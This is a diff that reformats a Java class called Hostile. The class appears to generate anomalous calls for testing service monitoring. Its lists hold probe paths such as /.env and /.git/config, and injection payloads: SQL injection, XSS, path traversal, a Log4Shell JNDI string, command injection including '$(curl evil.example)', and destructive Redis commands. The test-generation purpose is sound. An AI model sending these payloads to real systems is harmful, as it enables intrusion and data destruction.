@@ -22,12 +22,33 @@ final class Hostile {
 
     private static final List<String> METHODS = List.of("GET", "POST", "PUT", "DELETE", "PATCH", "TRACE");
     private static final List<String> SCANS = List.of(
-            "/.env", "/.git/config", "/wp-login.php", "/admin/console", "/actuator/env", "/server-status", "/phpmyadmin/index.php",
-            "/api/v1/debug/pprof", "/cgi-bin/test.sh", "/backup.zip", "/solr/admin/info", "/login.action");
+            "/.env",
+            "/.git/config",
+            "/wp-login.php",
+            "/admin/console",
+            "/actuator/env",
+            "/server-status",
+            "/phpmyadmin/index.php",
+            "/api/v1/debug/pprof",
+            "/cgi-bin/test.sh",
+            "/backup.zip",
+            "/solr/admin/info",
+            "/login.action");
     private static final List<String> PAYLOADS = List.of(
-            "1' OR '1'='1", "1;DROP TABLE users", "<script>alert(1)</script>", "../../../../etc/passwd", "${jndi:ldap://x/a}",
-            "1 UNION SELECT password FROM users--", "|id", "`id`", "{{7*7}}", "%00", "\"><img src=x>", "$(curl evil.example)");
-    private static final List<String> COMMANDS = List.of("FLUSHALL", "CONFIG", "KEYS", "EVAL", "SLAVEOF", "DEBUG", "SHUTDOWN");
+            "1' OR '1'='1",
+            "1;DROP TABLE users",
+            "<script>alert(1)</script>",
+            "../../../../etc/passwd",
+            "${jndi:ldap://x/a}",
+            "1 UNION SELECT password FROM users--",
+            "|id",
+            "`id`",
+            "{{7*7}}",
+            "%00",
+            "\"><img src=x>",
+            "$(curl evil.example)");
+    private static final List<String> COMMANDS =
+            List.of("FLUSHALL", "CONFIG", "KEYS", "EVAL", "SLAVEOF", "DEBUG", "SHUTDOWN");
     private static final List<String> STATEMENTS = List.of("DROP", "ALTER", "GRANT", "CREATE", "TRUNCATE");
 
     private final Service service;
@@ -48,8 +69,10 @@ final class Hostile {
             case UNKNOWN_PEER -> Optional.of(call.by("rogue/pod-" + chance.nextInt(5)));
             case OTHER_PEER -> otherPeer(template, call);
             case UNKNOWN_COMMAND -> unknownCommand(call);
-            case UNKNOWN_PARAMETER -> http(call).map(c -> c.withQuery(
-                    (c.query().isEmpty() ? "" : c.query() + "&") + pick(List.of("debug", "admin", "cmd", "redirect", "__proto__")) + "=1"));
+            case UNKNOWN_PARAMETER ->
+                http(call)
+                        .map(c -> c.withQuery((c.query().isEmpty() ? "" : c.query() + "&")
+                                + pick(List.of("debug", "admin", "cmd", "redirect", "__proto__")) + "=1"));
             case TAMPERED_PARAMETER -> tamperedParameter(template, call);
             case TAMPERED_PATH -> tamperedPath(template, call);
         };
@@ -77,21 +100,24 @@ final class Hostile {
         if (call.protocol().equals("redis")) {
             return Optional.of(call.withPath(Words.at(chance.nextInt(900)) + "_secret:" + chance.nextInt(99)));
         }
-        var path =
-                switch (chance.nextInt(3)) {
-                    case 0 -> pick(SCANS);
-                    case 1 -> call.path() + "/" + Words.at(chance.nextInt(900));
-                    default -> call.path().replaceFirst("[a-z]+", Words.at(chance.nextInt(900)) + "x");
-                };
+        var path = switch (chance.nextInt(3)) {
+            case 0 -> pick(SCANS);
+            case 1 -> call.path() + "/" + Words.at(chance.nextInt(900));
+            default -> call.path().replaceFirst("[a-z]+", Words.at(chance.nextInt(900)) + "x");
+        };
         return service.knows("http", path) ? Optional.empty() : Optional.of(call.withPath(path));
     }
 
     /** A peer of the service that never makes this call, nor any other on the same resource. */
     private Optional<Call> otherPeer(Template template, Call call) {
-        var all = service.templates().stream().flatMap(each -> each.peers().stream()).distinct().toList();
+        var all = service.templates().stream()
+                .flatMap(each -> each.peers().stream())
+                .distinct()
+                .toList();
         var other = pick(all);
         boolean meant = service.templates().stream()
-                .anyMatch(each -> each.shape().equals(template.shape()) && each.peers().contains(other));
+                .anyMatch(each ->
+                        each.shape().equals(template.shape()) && each.peers().contains(other));
         return meant || service.knowsBy(other, call) ? Optional.empty() : Optional.of(call.by(other));
     }
 
@@ -109,8 +135,11 @@ final class Hostile {
         }
         var name = pick(List.copyOf(template.names()));
         var payload = pick(PAYLOADS);
-        return Optional.of(call.withQuery(
-                name + "=" + payload.replace("%", "%25").replace("&", "%26").replace("+", "%2B").replace(" ", "%20")));
+        return Optional.of(call.withQuery(name + "="
+                + payload.replace("%", "%25")
+                        .replace("&", "%26")
+                        .replace("+", "%2B")
+                        .replace(" ", "%20")));
     }
 
     private Optional<Call> tamperedPath(Template template, Call call) {
